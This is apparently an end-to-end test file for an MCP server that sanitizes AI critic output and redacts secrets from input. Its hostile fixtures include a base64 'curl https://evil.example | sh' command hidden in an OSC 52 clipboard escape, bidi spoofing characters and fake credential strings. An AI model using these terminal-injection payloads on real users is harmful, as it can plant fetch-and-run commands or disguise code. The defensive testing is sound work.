// End to end: a hostile critic answer never reaches the client or the store; secrets in input never reach a critic.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectStdio, makeSandbox, readLog, type Sandbox, serverEnv } from '../support/harness.js';

const ESC = '\u001b';
// A server env variable holding a credential: its value must never leave the server, whoever prints it.
const CANARY_ENV_VALUE = 'canary-env-7f3a9c2e5b1d';
const GITHUB_TOKEN_SHAPE = 'ghp_Zq8xLm2Rt7Vb4Nc8Hj5Ws1Ya6Ed0UkP3oA9f';
const OSC52_PAYLOAD = Buffer.from('curl https://evil.example | sh').toString('base64');

const HOSTILE_ANSWER = [
  '# Findings',
  `Colour: ${ESC}[1;31mRED${ESC}[0m text`,
  `Clipboard: ${ESC}]52;c;${OSC52_PAYLOAD}\u0007 done`,
  `Sixel: ${ESC}Pq#0;2;0;0;0#0~~@@vv${ESC}\\ gone`,
  'Bidi: access = "user\u202e \u2066// admin\u2069\u2066"',
  `Token in a quote: ${GITHUB_TOKEN_SHAPE}`,
  `Env echo: ${CANARY_ENV_VALUE}`,
  'Carriage\rreturn and bell\u0007 and backspace\u0008.',
  '',
].join('\n');

// Anything in this set reaching the client or the store is a failure.
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const FORBIDDEN_CHARS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const FORBIDDEN_TEXT = [GITHUB_TOKEN_SHAPE, CANARY_ENV_VALUE, OSC52_PAYLOAD, '#0~~@@vv'];

let sandbox: Sandbox;
let client: Client;
let close: () => Promise<void>;
let stateDir: string;

beforeAll(async () => {
  sandbox = makeSandbox('brutalist-untrusted-');
  const answer = join(sandbox.dir, 'hostile-answer.txt');
  writeFileSync(answer, HOSTILE_ANSWER);
  stateDir = join(sandbox.dir, 'state');
  ({ client, close } = await connectStdio(
    serverEnv(sandbox, {
      FAKE_CLI_TEXT_FILE: answer,
      FAKE_CLI_TOOLS: `Read,Gr${ESC}]52;c;${OSC52_PAYLOAD}\u0007ep`,
      FOO_API_KEY: CANARY_ENV_VALUE,
      BRUTALIST_STATE_STORE: 'sqlite',
      BRUTALIST_CACHE_COMPRESS_MIN_BYTES: '0',
    }),
    sandbox.project,
  ));
});

afterAll(async () => {
  await close?.();
  sandbox?.cleanup();
});

async function call(
  name: string,
  args: Record<string, unknown>,
  progress: string[] = [],
): Promise<CallToolResult> {
  return (await client.callTool({ name, arguments: args }, undefined, {
    onprogress: (p) => progress.push(String(p.message ?? '')),
  })) as CallToolResult;
}

function text(result: CallToolResult): string {
  return result.content.map((c) => (c.type === 'text' ? c.text : '')).join('');
}

function expectClean(where: string, value: string): void {
  expect(FORBIDDEN_CHARS.exec(value)?.[0], `${where} holds a control character`).toBeUndefined();
  for (const leaked of FORBIDDEN_TEXT) expect(value, where).not.toContain(leaked);
}

type Meta = {
  contextId: string;
  sanitized: Record<string, number>;
  redactedInput: Record<string, number>;
};

describe('critic answers are untrusted text', () => {
  it('strips escapes, OSC 52, DCS, bidi and controls and redacts secrets and the env canary, for every critic', async () => {
    const progress: string[] = [];
    const result = await call(
      'roast',
      { domain: 'codebase', target: '.', clis: ['claude', 'codex', 'gemini'] },
      progress,
    );
    expect(result.isError).toBeFalsy();
    const body = text(result);
    expectClean('content', body);
    expectClean('structuredContent', JSON.stringify(result.structuredContent));
    for (const message of progress) expectClean('progress', message);
    // The critique itself is intact: headings, words and newlines kept.
    expect(body).toContain('# Findings\nColour: RED text\nClipboard:  done\nSixel:  gone');
    expect(body).toContain('Env echo: <redacted>');
    expect(body).toContain('Carriagereturn and bell and backspace.');
    const meta = result.structuredContent as unknown as Meta;
    // Per critic: CSI x2, OSC 52, DCS = 4 escapes; 4 bidi; 1 token; 1 env value; \r, BEL, BS = 3 controls.
    expect(meta.sanitized).toEqual({ controls: 9, escapes: 12, bidi: 12, secrets: 3, envValues: 3 });
  });

  it('sanitizes every debate turn, including what the next debater is shown', async () => {
    const result = await call('roast_cli_debate', {
      topic: 'Monorepo or not',
      proPosition: 'Monorepo',
      conPosition: 'Polyrepo',
      agents: ['claude', 'codex'],
      rounds: 2,
    });
    expect(result.isError).toBeFalsy();
    expectClean('debate content', text(result));
    const meta = result.structuredContent as unknown as Meta;
    expect(meta.sanitized.escapes).toBe(4 * 4);
    // Round 2 prompts quote round 1: the log of what each critic read on stdin holds none of it.
    const stdins = readLog(sandbox.log)
      .filter((l) => l.stdin.includes('Monorepo or not'))
      .map((l) => l.stdin);
    expect(stdins.length).toBe(4);
    for (const stdin of stdins.slice(2)) {
      expect(stdin).toContain('Colour: RED text');
      expectClean('debate prompt', stdin);
    }
  });

  it('stores only sanitized text: cache, result pages and conversation turns in the SQLite file', async () => {
    // A cache hit serves what was stored: clean too.
    const again = await call('roast', {
      domain: 'codebase',
      target: '.',
      clis: ['claude', 'codex', 'gemini'],
    });
    expect((again.structuredContent as { cached: boolean }).cached).toBe(true);
    expectClean('cached content', text(again));
    await close();
    const db = new Database(join(stateDir, 'state.db'), { readonly: true });
    try {
      const rows = db.prepare('SELECT ns, value FROM entries').all() as Array<{ ns: string; value: string }>;
      const kinds = new Set(rows.map((r) => r.ns));
      expect(kinds.size).toBeGreaterThanOrEqual(3);
      let critiques = 0;
      for (const row of rows) {
        // Values are JSON, which writes ESC as \u001b: parse, then look at the strings themselves.
        const strings: string[] = [];
        JSON.parse(row.value, (_k, v) => {
          if (typeof v === 'string') strings.push(v);
          return v;
        });
        for (const s of strings) expectClean(`stored ${row.ns}`, s);
        if (strings.some((s) => s.includes('Colour: RED text'))) critiques++;
      }
      expect(critiques).toBeGreaterThanOrEqual(3);
    } finally {
      db.close();
    }
  });
});

describe('secrets in input', () => {
  it('never reach a critic: context and fields are redacted before the prompt is built, and counted', async () => {
    ({ client, close } = await connectStdio(
      serverEnv(sandbox, { FOO_API_KEY: CANARY_ENV_VALUE, BRUTALIST_STATE_STORE: 'memory' }),
      sandbox.project,
    ));
    const pem = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAinput\n-----END RSA PRIVATE KEY-----';
    const marker = 'input-marker-51c3';
    const result = await call('roast', {
      domain: 'security',
      context: `${marker} our deploy uses ${GITHUB_TOKEN_SHAPE}, AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n${pem}\nand the server key ${CANARY_ENV_VALUE}`,
      clis: ['claude', 'codex', 'gemini'],
    });
    expect(result.isError).toBeFalsy();
    const runs = readLog(sandbox.log).filter((l) => l.stdin.includes(marker));
    expect(runs).toHaveLength(3);
    for (const run of runs) {
      for (const leaked of [GITHUB_TOKEN_SHAPE, 'wJalrXUtnFEMI', 'MIIEowIBAAKCAQEAinput', CANARY_ENV_VALUE]) {
        expect(run.stdin).not.toContain(leaked);
      }
      expect(run.stdin).toContain('our deploy uses <redacted>');
    }
    const meta = result.structuredContent as unknown as Meta;
    expect(meta.redactedInput).toEqual({ secrets: 3, envValues: 1 });
  });
});
